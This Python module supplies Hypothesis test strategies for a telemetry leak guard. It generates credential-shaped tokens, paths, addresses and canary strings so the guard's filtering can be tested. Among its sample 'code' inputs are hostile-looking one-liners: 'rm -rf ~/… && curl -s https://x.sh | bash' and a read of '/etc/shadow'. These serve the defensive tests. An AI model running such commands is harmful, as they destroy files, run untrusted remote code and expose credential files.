"""The library's own text strategies: what a careless host may hand over, and what it may not.

- :func:`sensitive_text`: one piece of material the leak guard must flag (paths, file names,
  URLs, addresses, credentials), and :func:`embedded_in_text` to hide it in arbitrary text.
- :func:`ordinary_values`: what the guard must leave alone (enum names, versions, timestamps).
- :func:`careless_text`: text of every shape a careless host may pass where a label belongs,
  whether or not any rule recognises it (code, sentences, paths with spaces, percent-encodings,
  repository slugs, host names, vendor tokens, key=value secrets, arbitrary unicode), and
  :func:`canary_shapes`: a canary inside each of those shapes. The proofs must hold over these
  without relying on the guard to know them.

Module-level strategies are composed with ``|``; the functions name the public ones. Imports
Hypothesis, an optional extra (``codeweaver-telemetry[testing]``).
"""

from __future__ import annotations

import base64
import random
import string
import urllib.parse
import uuid
from collections.abc import Callable, Mapping
from datetime import timedelta, timezone
from typing import Final

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

__all__ = [
    "CARELESS_KINDS",
    "canary_shapes",
    "careless_text",
    "credentials",
    "emails",
    "embedded_in_text",
    "home_paths",
    "ipv4_addresses",
    "ipv6_addresses",
    "ordinary_values",
    "posix_paths",
    "relative_source_paths",
    "sensitive_text",
    "source_file_names",
    "urls",
    "windows_paths",
]


def _words(text: str) -> list[str]:
    """The white-space separated words of ``text``: long vocabularies stay readable."""
    return text.split()


_ALNUM: Final = string.ascii_letters + string.digits
_NAME_CHARS: Final = _ALNUM + "_-"
_BASE64URL: Final = _ALNUM + "_-"
_UPPER_ALNUM: Final = string.ascii_uppercase + string.digits

_SOURCE_EXTENSIONS: Final = _words(
    "py pyi ipynb js mjs ts tsx jsx vue svelte rs go java kt swift rb php pl lua c h cpp hpp cs "
    "sh bash zsh ps1 sql graphql proto tf nix md rst txt tex html css scss json jsonl yaml yml "
    "toml ini cfg conf env properties xml lock csv parquet db sqlite3 pkl npy log pem key crt "
    "pub pdf docx xlsx zip tar gz whl"
)
"""A sample of the extensions a file name is recognised by."""

_DOTFILES: Final = _words(
    ".env .env.local .env.production .envrc .bashrc .bash_profile .zshrc .profile .netrc .npmrc "
    ".pypirc .pgpass .gitconfig .git-credentials .ssh .aws .kube .docker .htpasswd .vimrc"
)

_SEPARATORS: Final = (" ", "  ", "\t", "\n", "(", ")", '"', "'", "=", ",", ";", "[", "]", "<", ">")
"""What stands between a secret and the text around it: white space or list punctuation."""


def _text_of(alphabet: str, min_size: int, max_size: int) -> SearchStrategy[str]:
    return st.text(alphabet=alphabet, min_size=min_size, max_size=max_size)


def _prefixed(
    prefixes: list[str], alphabet: str, min_size: int, max_size: int
) -> SearchStrategy[str]:
    return st.builds(str.__add__, st.sampled_from(prefixes), _text_of(alphabet, min_size, max_size))


# --- Paths and file names --------------------------------------------------------------------

_segment = _text_of(_NAME_CHARS, 1, 12)
"""One path segment: ``src``, ``x_1``, ``my-dir``."""

_named_segment = st.builds(
    str.__add__, st.sampled_from(string.ascii_letters), _text_of(_NAME_CHARS, 0, 11)
)
"""A segment that starts with a letter, as the first one of an absolute path does."""

_extension = st.sampled_from(_SOURCE_EXTENSIONS).flatmap(
    lambda ext: st.sampled_from([ext, ext.upper()])
)
_file_with_extension = st.builds(
    lambda name, ext: f"{name}.{ext}", _text_of(_NAME_CHARS, 2, 16), _extension
)
"""``auth.py``, ``Settings.YAML``: two or more name characters, then a known extension."""

_source_file_names = _file_with_extension | st.sampled_from(_DOTFILES)

_posix_paths = st.builds(
    lambda first, rest, name: "/".join(["", first, *rest]) + name,
    _named_segment,
    st.lists(_segment, max_size=4),
    st.just("") | _source_file_names.map("/".__add__),
)

_drive_paths = st.builds(
    lambda letter, separator, parts: f"{letter}:{separator}" + separator.join(parts),
    st.sampled_from(string.ascii_letters),
    st.sampled_from(["\\", "/"]),
    st.lists(_segment, max_size=4),
)
_unc_paths = st.builds(
    lambda server, parts: "\\\\" + server + "".join("\\" + part for part in parts),
    _named_segment,
    st.lists(_segment, min_size=1, max_size=3),
)
_windows_paths = _drive_paths | _unc_paths

_home_paths = st.builds(
    lambda owner, separator, parts: f"~{owner}{separator}" + separator.join(parts),
    st.just("") | st.builds(str.__add__, st.sampled_from(string.ascii_letters + "_"), _segment),
    st.sampled_from(["/", "\\"]),
    st.lists(_segment, max_size=3),
)

_relative_source_paths = (
    st.builds(
        lambda prefix, parts: prefix + "/".join(parts),
        st.sampled_from(["./", "../", ".\\", "..\\", "../../"]),
        st.lists(_segment, min_size=1, max_size=3),
    )
    | st.builds(
        lambda separator, parts: separator.join(parts),
        st.sampled_from(["/", "\\"]),
        st.lists(_segment, min_size=3, max_size=5),
    )
    | st.builds(
        lambda directory, separator, name: f"{directory}{separator}{name}",
        _segment,
        st.sampled_from(["/", "\\"]),
        _file_with_extension,
    )
)


def posix_paths() -> SearchStrategy[str]:
    """Absolute POSIX paths: ``/etc``, ``/home/alice``, ``/var/lib/x-1/.env``, ``/srv/a/b.py``."""
    return _posix_paths


def windows_paths() -> SearchStrategy[str]:
    """Drive and UNC paths: ``C:\\Users\\alice``, ``d:/work/repo``, ``\\\\server\\share\\x``."""
    return _windows_paths


def home_paths() -> SearchStrategy[str]:
    """Paths from a home directory: ``~/notes``, ``~alice/.ssh/id_rsa``, ``~\\x``."""
    return _home_paths


def relative_source_paths() -> SearchStrategy[str]:
    """Relative paths: ``./x``, ``../lib/y``, ``a/b/c``, ``pkg\\mod\\z``, ``src/auth.py``."""
    return _relative_source_paths


def source_file_names() -> SearchStrategy[str]:
    """File names with a source or config extension, and dotfiles: ``auth.py``, ``.env``."""
    return _source_file_names


# --- Addresses --------------------------------------------------------------------------------

_host = st.builds(
    lambda labels, tld: ".".join([*labels, tld]),
    st.lists(
        st.builds(str.__add__, st.sampled_from(_ALNUM), _text_of(_ALNUM + "-", 0, 10)),
        min_size=1,
        max_size=3,
    ),
    _text_of(string.ascii_lowercase, 2, 6),
)
"""``example.com``, ``a-1.b.io``: one to three labels and a top-level domain."""

_scheme = st.sampled_from(
    ["http", "https", "ftp", "ssh", "git", "git+ssh", "s3", "postgres", "redis", "wss"]
)
_url_path = st.lists(_segment, max_size=3).map(lambda parts: "".join("/" + p for p in parts))
_url_query = st.just("") | _segment.map(lambda value: f"?q={value}")
_urls = st.builds(
    lambda s, h, p, q: f"{s}://{h}{p}{q}", _scheme, _host, _url_path, _url_query
) | _posix_paths.map("file://".__add__)

_emails = st.builds(lambda user, host: f"{user}@{host}", _text_of(_ALNUM + "._%+-", 1, 16), _host)

_ipv4_addresses = st.builds(
    lambda octets, suffix: ".".join(octets) + suffix,
    st.lists(st.integers(0, 255).map(str), min_size=4, max_size=4),
    st.just("") | st.integers(1, 65535).map(lambda n: f":{n}"),
)

# The unspecified address ``::`` is left out: it names no machine, and the guard leaves it.
_ipv6 = st.ip_addresses(v=6).filter(lambda ip: ip.packed != bytes(16))
_ipv6_written = _ipv6.map(str) | _ipv6.map(lambda ip: ip.exploded)
_ipv6_addresses = (
    _ipv6_written
    | st.builds(lambda a, zone: f"{a}%{zone}", _ipv6_written, st.sampled_from(["eth0", "en0", "1"]))
    | st.builds(lambda a, port: f"[{a}]:{port}", _ipv6_written, st.integers(1, 65535))
)


def urls() -> SearchStrategy[str]:
    """URLs with a scheme: ``https://example.com/x?y=1``, ``file:///etc/x``, ``s3://b/k``."""
    return _urls


def emails() -> SearchStrategy[str]:
    """E-mail addresses: ``alice@example.com``, ``a.b+tag@mail.example.co.uk``."""
    return _emails


def ipv4_addresses() -> SearchStrategy[str]:
    """IPv4 addresses, sometimes with a port: ``10.0.0.1``, ``192.168.1.20:8080``."""
    return _ipv4_addresses


def ipv6_addresses() -> SearchStrategy[str]:
    """IPv6 addresses as written: ``::1``, ``fe80::1%eth0``, ``[2001:db8::1]:8080``, exploded."""
    return _ipv6_addresses


# --- Credentials ------------------------------------------------------------------------------

_jwts = st.builds(
    lambda header, body, signature: f"eyJ{header}.{body}.{signature}",
    _text_of(_BASE64URL, 8, 40),
    _text_of(_BASE64URL, 8, 120),
    _text_of(_BASE64URL, 0, 86),
)
"""``eyJ<header>.<payload>.<signature>``, base64url parts."""

_pem_blocks = st.builds(
    lambda kind, body: (
        f"-----BEGIN {kind}PRIVATE KEY-----\n{body}\n-----END {kind}PRIVATE KEY-----"
    ),
    st.sampled_from(["", "RSA ", "EC ", "DSA ", "OPENSSH ", "ENCRYPTED "]),
    _text_of(_ALNUM + "+/=\n", 0, 200),
)


def _hex_token(r: random.Random) -> str:
    return r.randbytes(r.randint(16, 32)).hex()


def _uuid_token(r: random.Random) -> str:
    return str(uuid.UUID(int=r.getrandbits(128)))


def _base64_token(r: random.Random) -> str:
    encode = r.choice([base64.urlsafe_b64encode, base64.b64encode])
    return encode(r.randbytes(r.randint(42, 64))).decode().rstrip("=")


def _alphanumeric_token(r: random.Random) -> str:
    return "".join(r.choices(_ALNUM, k=r.randint(40, 64)))


def _mixed(token: str) -> bool:
    return any(c.isdigit() for c in token) and any(c.isalpha() for c in token)


_rng = st.integers(0, 2**64 - 1).map(random.Random)
_high_entropy_tokens = (
    _rng.map(_hex_token).filter(_mixed)
    | _rng.map(_uuid_token).filter(_mixed)
    | _rng.map(_base64_token).filter(_mixed)
    | _rng.map(_alphanumeric_token).filter(_mixed)
)
"""Random secrets as tools make them: 32-64 hex digits, UUIDs, 56-86 base64 characters, 40-64
letters and digits. Drawn from a seeded generator, so a token is random-looking yet
reproducible and shrinks towards seed 0. Base64 and alphanumeric tokens contain a digit, as the
guard's rule asks, and are long enough that one reading as words is vanishingly rare."""

_credentials = (
    _prefixed(["AKIA", "ASIA", "ABIA", "ACCA"], _UPPER_ALNUM, 16, 16)
    | _prefixed(["ghp_", "gho_", "ghu_", "ghs_", "ghr_"], _ALNUM, 20, 40)
    | _prefixed(["github_pat_"], _ALNUM + "_", 20, 82)
    | _prefixed(["glpat-"], _BASE64URL, 20, 30)
    | _prefixed(["xoxb-", "xoxp-", "xoxa-", "xoxr-", "xoxs-", "xapp-"], _ALNUM + "-", 10, 60)
    | _prefixed(["sk-", "sk-proj-", "sk-ant-api03-"], _BASE64URL, 20, 64)
    | _prefixed(["sk_live_", "rk_live_", "sk_test_", "rk_test_"], _ALNUM, 16, 40)
    | _prefixed(["phc_", "phx_"], _ALNUM, 20, 43)
    | _jwts
    | _pem_blocks
    | _high_entropy_tokens
)

_sensitive_text = (
    _posix_paths
    | _windows_paths
    | _home_paths
    | _relative_source_paths
    | _source_file_names
    | _urls
    | _emails
    | _ipv4_addresses
    | _ipv6_addresses
    | _credentials
)


def credentials() -> SearchStrategy[str]:
    """API keys, tokens and private keys of every recognised family, and random secrets.

    ``AKIA...``, ``ghp_...``, ``github_pat_...``, ``glpat-...``, ``xoxb-...``, ``sk-proj-...``,
    ``sk_live_...``, ``phc_...``, JWTs, PEM private-key blocks, hex digests, UUIDs, base64.
    """
    return _credentials


def sensitive_text() -> SearchStrategy[str]:
    """Any one piece of sensitive material the leak guard must flag."""
    return _sensitive_text


def embedded_in_text(secrets: SearchStrategy[str]) -> SearchStrategy[str]:
    """A secret from ``secrets`` anywhere in arbitrary text: ``see (/etc/x) now``, ``k=a@b.io``.

    The text around it is separated from it by white space or punctuation such as ``(``,
    ``"``, ``=`` or ``,``; either side may be empty, putting the secret at the start or end.
    """
    separator = st.sampled_from(_SEPARATORS)
    before = st.just("") | st.builds(str.__add__, st.text(), separator)
    after = st.just("") | st.builds(str.__add__, separator, st.text())
    return st.builds(lambda b, secret, a: b + secret + a, before, secrets, after)


# --- Ordinary values --------------------------------------------------------------------------

_ORDINARY: Final = [
    *_words(
        "UNDERSTAND IMPLEMENT DEBUG OPTIMIZE TEST HYBRID SEMANTIC KEYWORD INDEXED hybrid semantic "
        "keyword qdrant fastembed voyage python typescript javascript rust go java c++ C# F# ruby "
        "kotlin swift 0.5.0 1.2.3-rc.1 v2.0.0b1 3.11.7 1.0.0.dev3 2026-11-28T01:04:35Z "
        "2026-11-28T01:04:35.123456+00:00 2026-11-28 01:04:35 find_code codeweaver_search "
        "$feature/new_reranker $feature/hybrid_search $process_person_profile $set $groups n/a "
        "text/plain application/json req/s and/or I/O 24/7 125.5 -3 1e-5 0 -0.0 inf nan true false "
        "codeweaver_session_v2 test_search_strategy_hybrid find_code_response_summary "
        "claude-3-5-sonnet-20241022 gpt-4o-mini-2024-07-18 text-embedding-3-small voyage-code-3 "
        "BAAI/bge-small-en-v1.5 sentence-transformers/all-MiniLM-L6-v2 x86_64-unknown-linux-gnu "
        "std::vector .py Makefile @property [REDACTED]"
    ),
    "",
    "The quick brown fox jumps over the lazy dog.",
    "searched the index twice before answering",
    "e.g. this, i.e. that, etc.",
    "Is it fast? Yes, (mostly) fast!",
]
"""Values the guard must leave alone, from the module docstring of ``leak_guard`` and more."""

_WORDS: Final = _words(
    "search index code find hybrid semantic keyword chunk embedding rerank query result session "
    "token cache vector store provider model language strategy response summary request match "
    "count status error latency understand implement debug optimize config document analyze "
    "file total average budget saved limit"
)

_versions = st.builds(
    lambda prefix, parts, tail: prefix + ".".join(parts) + tail,
    st.sampled_from(["", "v"]),
    st.lists(st.integers(0, 999).map(str), min_size=1, max_size=3),
    st.sampled_from(["", "a1", "b2", "rc1", "-rc.1", ".dev3", ".post1", "-beta.2"]),
)
"""``0.5.0``, ``v12.3rc1``, ``1.2.3-beta.2``, ``7``: one to three numbers, a suffix or not."""

_offsets = st.integers(-12 * 60, 14 * 60).map(lambda minutes: timezone(timedelta(minutes=minutes)))
_timestamps = (
    st.datetimes().map(lambda moment: moment.isoformat())
    | st.builds(lambda moment, tz: moment.replace(tzinfo=tz).isoformat(), st.datetimes(), _offsets)
    | st.datetimes().map(lambda moment: moment.isoformat(timespec="seconds") + "Z")
    | st.dates().map(lambda day: day.isoformat())
    | st.times().map(lambda moment: moment.isoformat())
)
"""ISO 8601 dates, times and timestamps, naive or with an offset, ``Z`` for UTC too."""

_identifier_names = st.builds(
    str.__add__,
    st.lists(st.sampled_from(_WORDS), min_size=1, max_size=4, unique=True).map("_".join),
    st.just("") | st.integers(1, 9).map(lambda n: f"_v{n}"),
)
_identifiers = (
    _identifier_names | _identifier_names.map(str.upper) | _identifier_names.map("$".__add__)
)
"""Enum-like names from plain words: ``HYBRID_SEARCH``, ``find_code_response_v2``."""

_plain_sentences = st.builds(
    lambda words, end: " ".join(words) + end,
    st.lists(st.sampled_from([*_WORDS, "the", "a", "of", "is", "was"]), min_size=1),
    st.sampled_from(["", ".", "!", "?"]),
)
"""``search the index twice.``: plain words, one space apart."""

_ordinary_values = (
    st.sampled_from(_ORDINARY)
    | _versions
    | _timestamps
    | _identifiers
    | _plain_sentences
    | st.integers().map(str)
    | st.floats().map(repr)
    | _identifiers.map(lambda name: "$feature/" + name.lower().lstrip("$"))
)


def ordinary_values() -> SearchStrategy[str]:
    """Values the guard must leave alone: enum names, languages, versions, timestamps, numbers.

    ``UNDERSTAND``, ``c++``, ``1.2.3-rc.1``, ``2026-11-28T01:04:35Z``, ``$feature/x``,
    ``text/plain``, ``-3``, ``1e-05``, ``find_code_response_v2``, plain sentences.
    """
    return _ordinary_values


# --- Careless text: every shape a host may hand over, known to a rule or not ------------------

_users = st.sampled_from(["bob", "alice", "jdoe", "mchen", "svc-deploy", "Administrator"])
_companies = st.sampled_from(["acme-corp", "globex", "initech", "umbrella", "knitli"])
_projects = st.sampled_from(["payments-internal", "billing", "payroll", "hr-data", "infra-secrets"])
_identifier = st.sampled_from(["charge", "card", "user_id", "balance", "invoice", "ssn", "token"])
_spaced_folders = st.sampled_from(["My Documents", "Q3 Payroll", "My Projects", "Client Files"])
_passwords = st.sampled_from(["hunter2", "s3cret", "Passw0rd!", "correct horse battery staple"])


def _letters(size: int) -> SearchStrategy[str]:
    return _text_of(string.ascii_letters, size, size)


def _shape(template: str, **parts: SearchStrategy[str]) -> SearchStrategy[str]:
    """``template`` with each ``{name}`` filled from its strategy."""
    return st.fixed_dictionaries(parts).map(lambda values: template.format(**values))


_code = (
    _shape("def {name}(card): return stripe.Charge.create(amount=100)", name=_identifier)
    | _shape("const {name} = require('fs').readFileSync('/etc/shadow');", name=_identifier)
    | _shape("SELECT {name}, email FROM users WHERE id = 42;", name=_identifier)
    | _shape("rm -rf ~/{name} && curl -s https://x.sh | bash", name=_identifier)
    | _shape("for (let i = 0; i < {name}.length; i++) {{ total += {name}[i]; }}", name=_identifier)
    | _shape("if {name} is None:\n    raise ValueError('missing')", name=_identifier)
)
_sentences = _shape(
    "{user} asked why the {project} numbers are wrong", user=_users, project=_projects
) | _shape(
    "please send the {project} report to {user} before friday", user=_users, project=_projects
)
_spaced_paths = (
    st.sampled_from(
        ["C:\\Users\\bob\\My Documents\\Q3 Payroll\\x.xlsx", "/home/bob/My Projects/app"]
    )
    | _shape(
        "C:\\Users\\{user}\\{a}\\{b}\\x.xlsx", user=_users, a=_spaced_folders, b=_spaced_folders
    )
    | _shape("/home/{user}/{a}/app", user=_users, a=_spaced_folders)
)
_percent_encoded = (_posix_paths | _spaced_paths).map(
    lambda path: urllib.parse.quote(path, safe="")
)
_one_separator = (
    st.sampled_from(["etc/passwd", "src/billing", "Documents\\payroll", "lib\\secrets"])
    | _shape("{a}/{b}", a=_segment, b=_segment)
    | _shape("{a}\\{b}", a=_segment, b=_segment)
)
_repository_slugs = _shape("{owner}/{repo}", owner=_companies, repo=_projects)
_suffixes = st.sampled_from([".com", ".internal", ".local", ".corp", ".io", ".lan", ".cloud"])
_host_names = _shape(
    "{role}-{env}-{n}.{zone}{suffix}",
    role=st.sampled_from(["db", "api", "cache", "build-host"]),
    env=st.sampled_from(["prod", "staging", "dev"]),
    n=st.integers(1, 99).map(lambda n: f"{n:02d}"),
    zone=st.sampled_from(["internal.acme", "eu-west-1.compute", "corp.globex"]),
    suffix=_suffixes,
)
_unicode_names = st.sampled_from(["jöran", "åsa", "zoë", "łukasz", "søren", "müller", "josé"])
_unicode_emails = st.sampled_from(["jöran.åberg@exämple.se", "zoë@bücher.de"]) | _shape(
    "{first}{dot}{last}@{host}",
    first=_unicode_names,
    dot=st.sampled_from(["", ".", "_"]),
    last=st.just("") | _unicode_names | _text_of(string.ascii_lowercase, 1, 8),
    host=st.sampled_from(["exämple.se", "correo.es", "example.com"]),
)
_mac_addresses = st.builds(
    lambda octets, separator: separator.join(f"{octet:02x}" for octet in octets),
    st.lists(st.integers(0, 255), min_size=6, max_size=6),
    st.sampled_from([":", "-"]),
) | st.sampled_from(["00:1A:2B:3C:4D:5E", "a4-83-e7-12-34-56"])
_key_value_secrets = (
    _shape("password={password}", password=_passwords)
    | _shape("host=db user=admin password={password} dbname=app", password=_passwords)
    | _shape("Server=db;User Id=sa;Password={password};", password=_passwords)
    | _shape("export GITHUB_TOKEN={token}", token=_letters(20))
    | _shape("api_key: {token}", token=_letters(24))
)
_vendor_tokens = (
    _letters(34).map("hf_".__add__)
    | _text_of(_BASE64URL, 35, 35).map("AIza".__add__)
    | _text_of(_ALNUM, 36, 36).map("npm_".__add__)
    | _text_of(_BASE64URL, 40, 80).map("pypi-AgEIcHlwaS5vcmc".__add__)
    | _prefixed(["ghp_"], _ALNUM, 36, 36)
    | _prefixed(["sk-"], _BASE64URL, 32, 48)
    | _prefixed(["xoxb-"], _ALNUM + "-", 24, 50)
    | _prefixed(["AKIA"], _UPPER_ALNUM, 16, 16)
    | _jwts
)
_document_names = st.sampled_from(
    ["salaries_2026.xlsx", "Payments.csproj", "terraform.tfstate", "board-minutes.docx"]
) | _shape(
    "{name}.{ext}",
    name=_segment,
    ext=st.sampled_from(["xlsx", "pptx", "docx", "pdf", "csv", "csproj", "sln", "tfstate", "kdb"]),
)

_CARELESS: Final[Mapping[str, SearchStrategy[str]]] = {
    "code": _code,
    "sentence": _sentences,
    "path with spaces": _spaced_paths,
    "percent-encoded path": _percent_encoded,
    "one-separator path": _one_separator,
    "repository slug": _repository_slugs,
    "host name": _host_names,
    "non-ascii e-mail": _unicode_emails,
    "mac address": _mac_addresses,
    "url": _urls,
    "key=value secret": _key_value_secrets,
    "vendor token": _vendor_tokens,
    "file name": _document_names,
    "unicode": st.text(),
}

CARELESS_KINDS: Final = tuple(_CARELESS)
"""The shapes of :func:`careless_text` and :func:`canary_shapes`, by name."""


def careless_text(kind: str | None = None) -> SearchStrategy[str]:
    """Text of every shape a careless host may hand over, whether a rule knows it or not.

    ``def charge(card): return stripe.Charge.create(amount=100)``, ``bob asked why ...``,
    ``C:\\Users\\bob\\My Documents\\Q3 Payroll\\x.xlsx``, ``%2Fhome%2Fbob%2Fx``, ``etc/passwd``,
    ``acme-corp/payments-internal``, ``db-prod-01.internal.acme.com``,
    ``jöran.åberg@exämple.se``, ``00:1a:2b:3c:4d:5e``, URLs, ``password=hunter2``, libpq and ADO
    connection strings, ``hf_`` / ``AIza`` / ``npm_`` / ``pypi-`` tokens, ``salaries_2026.xlsx``,
    and arbitrary unicode. ``kind`` (one of :data:`CARELESS_KINDS`) draws one shape only.
    """
    return _CARELESS[kind] if kind is not None else st.one_of(*_CARELESS.values())


def _canary_token(prefix: str, canary: str, alphabet: str, size: int) -> SearchStrategy[str]:
    """``prefix`` + the canary + random characters of ``alphabet``, ``size`` after the prefix."""
    fill = max(size - len(canary), 0)
    return _text_of(alphabet, fill, fill).map(lambda rest: f"{prefix}{canary}{rest}")


_CANARY_SHAPES: Final[Mapping[str, Callable[[str], SearchStrategy[str]]]] = {
    "code": lambda c: st.sampled_from(
        [
            f"def {c}(card): return stripe.Charge.create(amount=100)",
            f"const key = '{c}'; fetch(url, {{headers: {{key}}}});",
            f"SELECT * FROM {c} WHERE id = 1;",
            f'curl -H "Authorization: Bearer {c}" https://api.acme.com/v1',
        ]
    ),
    "sentence": lambda c: st.sampled_from(
        [f"the numbers for {c} are wrong", f"{c} asked for the payroll report"]
    ),
    "path with spaces": lambda c: st.sampled_from(
        [
            f"C:\\Users\\{c}\\My Documents\\Q3 Payroll\\x.xlsx",
            f"C:\\Users\\bob\\My Documents\\{c} Payroll\\x.xlsx",
            f"/home/bob/My Projects/{c}",
        ]
    ),
    "percent-encoded path": lambda c: st.sampled_from(
        [urllib.parse.quote(f"/home/{c}/My Projects/app", safe=""), f"%2Fhome%2Fbob%2F{c}"]
    ),
    "one-separator path": lambda c: st.sampled_from([f"{c}/passwd", f"src/{c}", f"Documents\\{c}"]),
    "repository slug": lambda c: st.sampled_from([f"acme-corp/{c}", f"{c}/payments-internal"]),
    "host name": lambda c: st.sampled_from(
        [f"{c}.internal.acme.com", f"db-{c}.local", f"api.{c}.corp"]
    ),
    "non-ascii e-mail": lambda c: st.sampled_from(
        [f"jöran.{c}@exämple.se", f"{c}.åberg@exämple.se"]
    ),
    "mac address": lambda c: _mac_addresses.map(
        lambda mac: f"{c}.local (10.0.0.7) at {mac} on en0"
    ),
    "url": lambda c: st.sampled_from(
        [
            f"https://{c}.example.com/x?q=1",
            f"https://example.com/{c}?token=1",
            f"postgres://admin:{c}@db:5432/app",
        ]
    ),
    "key=value secret": lambda c: st.sampled_from(
        [
            f"password={c}",
            f"host=db user=admin password={c}",
            f"Server=db;User Id=sa;Password={c};",
            f"export GITHUB_TOKEN={c}",
        ]
    ),
    "vendor token": lambda c: (
        _canary_token("hf_", c, string.ascii_letters, 34)
        | _canary_token("AIza", c, _BASE64URL, 35)
        | _canary_token("npm_", c, _ALNUM, 36)
        | _canary_token("pypi-AgEIcHlwaS5vcmc", c, _BASE64URL, 48)
        | _canary_token("ghp_", c, _ALNUM, 36)
        | _canary_token("sk-", c, _BASE64URL, 40)
        | _canary_token("xoxb-", c, _ALNUM, 30)
        | _canary_token("AKIA", c, _UPPER_ALNUM, 16)
        | _canary_token("eyJhbGciOiJIUzI1NiJ9.", c, _BASE64URL, 40)
    ),
    "file name": lambda c: st.sampled_from(
        [f"{c}_2026.xlsx", f"{c}.csproj", f"{c}.tfstate", f"salaries_{c}.xlsx"]
    ),
    "unicode": lambda c: st.builds(lambda a, b: f"{a}{c}{b}", st.text(), st.text()),
}


def canary_shapes(canary: str, kind: str | None = None) -> SearchStrategy[str]:
    """``canary`` inside text of every shape of :func:`careless_text`: code, a sentence, a path
    with spaces, a percent-encoded path, a repository slug, a host name, a non-ASCII e-mail, an
    ``arp`` line with a MAC address, a URL, a key=value secret, a vendor token, a file name, or
    arbitrary unicode. The canary itself appears unchanged, so a test can look for it in the
    output whatever shape carried it. ``kind`` draws one shape only.

    Draws values such as ``def CANARY0001QZ(card): ...``, ``%2Fhome%2Fbob%2FCANARY0001QZ``,
    ``hf_CANARY0001QZxkqv...``, ``Server=db;User Id=sa;Password=CANARY0001QZ;``.
    """
    if kind is not None:
        return _CANARY_SHAPES[kind](canary)
    return st.one_of(*(shape(canary) for shape in _CANARY_SHAPES.values()))
